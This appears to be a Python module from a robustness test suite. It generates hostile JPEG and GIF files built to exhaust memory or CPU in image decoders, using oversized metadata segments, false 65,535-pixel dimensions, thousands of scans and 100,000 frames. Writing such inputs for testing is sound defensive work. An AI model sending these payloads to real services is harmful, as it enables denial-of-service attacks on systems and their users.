"""JPEG and GIF files that are made to take memory or time."""

from __future__ import annotations

import io
import struct

from hostile.attack_list import MIB, SIDE, attack
from PIL import Image

# JPEG


def jpeg(width: int = 16, height: int = 16, **options: object) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (width, height)).save(file, "JPEG", **options)
    return file.getvalue()


def segment(marker: int, body: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def claiming(data: bytes, frame: bytes, side: int) -> bytes:
    """A JPEG whose frame header states another size than its scans have."""
    place = data.index(frame) + 5
    return data[:place] + struct.pack(">HH", side, side) + data[place + 4 :]


def before_frame(data: bytes, added: bytes) -> bytes:
    return data[:2] + added + data[2:]


@attack
def jpeg_with_1500_exif_segments() -> bytes:
    return before_frame(jpeg(), segment(0xE1, b"Exif\0\0" + bytes(65_000)) * 1_500)


@attack
def jpeg_with_2000_profile_segments() -> bytes:
    return before_frame(jpeg(), b"".join(segment(0xE2, b"ICC_PROFILE\0\1\xff" + bytes(65_000)) for _ in range(2_000)))


@attack
def jpeg_with_millions_of_comments() -> bytes:
    return before_frame(jpeg(), segment(0xFE, b"") * 1_000_000)


@attack
def jpeg_with_40_megabytes_of_fill() -> bytes:
    return before_frame(jpeg(), b"\xff" * 40 * MIB)


@attack
def jpeg_with_40_megabytes_of_junk() -> bytes:
    return before_frame(jpeg(), segment(0xE0, b"JFIF") + b"\1" * 40 * MIB)


@attack
def jpeg_with_photoshop_resources() -> bytes:
    resources = b"8BIM\3\xe9\0\0\0\0\0\0" * 5_000
    return before_frame(jpeg(), segment(0xED, b"Photoshop 3.0\0" + resources) * 1_500)


@attack
def jpeg_of_4295_megapixels() -> bytes:
    return claiming(jpeg(), b"\xff\xc0", 65_535)


@attack
def jpeg_progressive() -> bytes:
    return claiming(jpeg(512, 512, progressive=True, subsampling=0), b"\xff\xc2", SIDE)


@attack
def jpeg_of_a_thousand_scans() -> bytes:
    data = jpeg(4096, 4096, progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * 1_000 + data[-2:]


@attack
def jpeg_of_scans_behind_a_false_end() -> bytes:
    data = jpeg(4096, 4096, progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:-2] + segment(0xFE, b"\xff\xd9") + data[last:-2] * 1_000 + data[-2:]


@attack
def jpeg_whose_channels_come_in_turn() -> bytes:
    data = claiming(jpeg(512, 512, subsampling=0), b"\xff\xc0", SIDE)
    scan = data.index(b"\xff\xda")
    return data[:scan] + segment(0xDA, b"\1\1\0\0\x3f\0") + data[scan + 14 :]


# GIF


def gif(screen: tuple[int, int], *before: bytes, frame: tuple[int, int] = (8, 8), frames: int = 1) -> bytes:
    pixels = io.BytesIO()
    Image.new("P", (8, 8)).save(pixels, "GIF")
    body = pixels.getvalue()
    coded = body[body.index(b",") + 10 : -1]
    coded = coded[3 << (body[body.index(b",") + 9] & 7) + 1 :] if body[body.index(b",") + 9] & 128 else coded
    one = b"," + struct.pack("<HHHHB", 0, 0, *frame, 0) + coded
    return b"GIF89a" + struct.pack("<HHBBB", *screen, 0x80, 0, 0) + bytes(6) + b"".join(before) + one * frames + b";"


@attack
def gif_of_4295_megapixels() -> bytes:
    return gif((65_535, 65_535))


@attack
def gif_whose_frame_is_larger_than_its_screen() -> bytes:
    return gif((8, 8), frame=(65_535, 65_535))


@attack
def gif_with_40_megabytes_of_comment() -> bytes:
    return gif((8, 8), b"!\xfe" + (b"\xff" + bytes(255)) * 160_000 + b"\0")


@attack
def gif_with_a_comment_in_single_bytes() -> bytes:
    return gif((8, 8), b"!\xfe" + b"\1x" * 20_000_000 + b"\0")


@attack
def gif_of_100_000_frames() -> bytes:
    return gif((8, 8), frames=100_000)


@attack
def gif_with_40_megabytes_of_junk() -> bytes:
    return gif((8, 8), b"x" * 40 * MIB)
